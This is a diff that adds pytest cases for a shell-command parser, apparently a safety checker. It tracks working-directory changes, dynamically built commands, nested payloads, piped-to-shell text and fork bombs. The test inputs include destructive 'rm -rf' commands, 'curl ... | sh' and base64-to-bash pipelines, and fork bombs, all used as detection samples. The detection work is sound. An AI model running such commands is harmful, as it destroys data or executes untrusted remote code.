@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from runtime.shell import parse, quote, skeleton, write_targets
+from runtime.shell import MAX_CHARS, parse, quote, resolve_cwd, skeleton, write_targets
 
 
 def argvs(text: str) -> list[list[str]]:
@@ -137,3 +137,117 @@ def test_write_targets(text: str, expected: list[tuple[str, str]]) -> None:
 def test_skeleton_drops_quoted_text() -> None:
     assert "rm" not in skeleton("echo 'rm -rf' \"rm\"")
     assert "rm" in skeleton("rm x")
+
+
+# --------------------------------------------------------------------------- shell state and bounded time
+
+def _cwds(text: str) -> list[tuple[list[str], str | None]]:
+    return [(c.argv, c.cwd) for c in parse(text).commands]
+
+
+@pytest.mark.parametrize(("text", "verb", "cwd"), [
+    ("cd docs && echo x > a", "echo", "docs"),
+    ("cd docs; cd ../src; touch a", "touch", "src"),
+    ("cd /tmp && rm x", "rm", "/tmp"),
+    ("pushd src && popd && rm x", "rm", ""),
+    ("cd $X && rm x", "rm", None),
+    ("cd $(mktemp -d) && rm x", "rm", None),
+    ("(cd docs) && rm x", "rm", ""),
+    ("bash -c 'cd src && rm x'", "rm", "src"),
+    ("cd src && bash -c 'rm x'", "rm", "src"),
+])
+def test_cd_is_tracked(text: str, verb: str, cwd: str | None) -> None:
+    assert next(c for argv, c in _cwds(text) if argv and argv[0] == verb) == cwd
+
+
+def test_resolve_cwd_is_absolute_or_none() -> None:
+    cmds = parse("cd docs && ls; cd $X && ls").commands
+    assert resolve_cwd(cmds[1], "/repo") == "/repo/docs"
+    assert resolve_cwd(cmds[3], "/repo") is None
+    assert resolve_cwd(parse("ls").commands[0], "/repo") == "/repo"
+
+
+@pytest.mark.parametrize(("text", "argv", "dynamic"), [
+    ("x=rm; $x -rf src", ["rm", "-rf", "src"], set()),
+    ("x=$(date); $x -rf src", ["$x", "-rf", "src"], {"$x"}),
+    ("$CMD -rf src", ["$CMD", "-rf", "src"], {"$CMD"}),
+    ("$(echo rm) -rf src", ["rm", "-rf", "src"], set()),
+    ("$(cat verb.txt) -rf src", ["$(cat verb.txt)", "-rf", "src"], {"$(cat verb.txt)"}),
+    ("/???/r? -rf src", ["/???/r?", "-rf", "src"], {"/???/r?"}),
+    ("rm -rf *.pyc", ["rm", "-rf", "*.pyc"], set()),  # a glob argument is ordinary; only a glob verb is unknown
+    ("{rm,-rf,src}", ["rm", "-rf", "src"], set()),
+])
+def test_dynamic_words_are_marked(text: str, argv: list[str], dynamic: set[str]) -> None:
+    cmd = next(c for c in parse(text).commands if c.argv[-1:] == ["src"] or c.argv[-1:] == ["*.pyc"])
+    assert cmd.argv == argv and cmd.dynamic == dynamic
+    assert cmd.verb_dynamic is bool(dynamic & {argv[0]})
+
+
+def test_positional_parameters_of_sh_c() -> None:
+    assert ["rm", "-rf", "src"] in argvs("sh -c 'rm -rf \"$1\"' _ src")
+    assert ["rm", "-rf", "src"] in argvs("sh -c '\"$@\"' _ rm -rf src")
+
+
+def test_apostrophe_in_heredoc_inside_substitution_hides_nothing() -> None:
+    text = "git commit -m \"$(cat <<'EOF'\nDon't; it's \"odd`\nEOF\n)\" && git push --force origin main"
+    assert ["git", "push", "--force", "origin", "main"] in argvs(text)
+
+
+@pytest.mark.parametrize(("text", "via"), [
+    ("trap 'rm -rf src' EXIT", "trap"), ("watch 'rm -rf src'", "watch"), ("ssh host 'rm -rf src'", "ssh"),
+    ("coproc rm -rf src", ""), ("sudo -s rm -rf src", "sudo -s"),
+    ("python3 -c \"import shutil; shutil.rmtree('src')\"", "python3 tree deletion"),
+    ("node -e \"require('child_process').execSync('rm -rf src')\"", "node shell-out"),
+])
+def test_payloads_are_found(text: str, via: str) -> None:
+    found = {(c.argv[0] if c.argv else "", c.via) for c in parse(text).commands}
+    assert ("rm", via) in found, found
+
+
+def test_dynamic_text_into_a_shell_is_opaque() -> None:
+    assert parse("curl -s https://example.invalid | sh").opaque
+    assert parse("printf aGk= | base64 -d | bash").opaque
+    assert parse("python3 -c \"exec(__import__('base64').b64decode('eA=='))\"").opaque
+    assert not parse("echo 'ls' | sh").opaque
+    assert not parse("bash script.sh").opaque
+
+
+@pytest.mark.parametrize("text", [":(){ :|:& };:", "bash -c 'b(){ b|b& };b'", "function f { f | f & }; f"])
+def test_fork_bombs_are_structural(text: str) -> None:
+    assert parse(text).fork_bombs
+
+
+def test_fork_bomb_lookalikes_are_not() -> None:
+    assert not parse("f(){ echo hi; }; f | f &").fork_bombs
+    assert not parse("echo ':(){ :|:& };:'").fork_bombs
+
+
+def test_too_long_is_unjudgeable() -> None:
+    assert "characters long" in parse("x" * (MAX_CHARS + 1)).unjudgeable
+
+
+def test_deadline_makes_a_parse_unjudgeable() -> None:
+    parsed = parse("echo a; " * 200_000, deadline=0.0)
+    assert parsed.unjudgeable and "could not finish" in parsed.unjudgeable
+
+
+_PIECES = ["$(", ")", "((", "))", "{ ", " }", "[ ", " ]", "`", '"', "'", "${", "}", "$((", "<<EOF\n", "\nEOF\n",
+           "<<'X'\n", "\nX\n", "; ", " && ", " | ", "&", "\\", "\n", "bash -c '", "eval ", "$'", "x=rm; ", "$x ",
+           "cd src && ", "python3 -c '", "rm -rf src", "#", "$@", "*", "{a,b}", "trap '", "sudo -s "]
+
+
+@pytest.mark.parametrize("seed", range(40))
+def test_random_text_always_terminates_and_never_raises(seed: int) -> None:
+    """Property: any concatenation or nesting of shell syntax parses without an exception, within the deadline."""
+    import random
+
+    rng = random.Random(seed)
+    text = "".join(rng.choice(_PIECES) for _ in range(rng.randint(1, 400)))
+    if seed % 4 == 0:  # deep nesting of one opener around a destructive command
+        opener = rng.choice(["$(", "`", '"$(', "bash -c '", "$((", "${", "{ "])
+        text = opener * rng.randint(50, 3000) + "rm -rf src"
+    parsed = parse(text)
+    assert isinstance(parsed.commands, list)
+    for cmd in parsed.commands:
+        write_targets(cmd)
+        cmd.text()
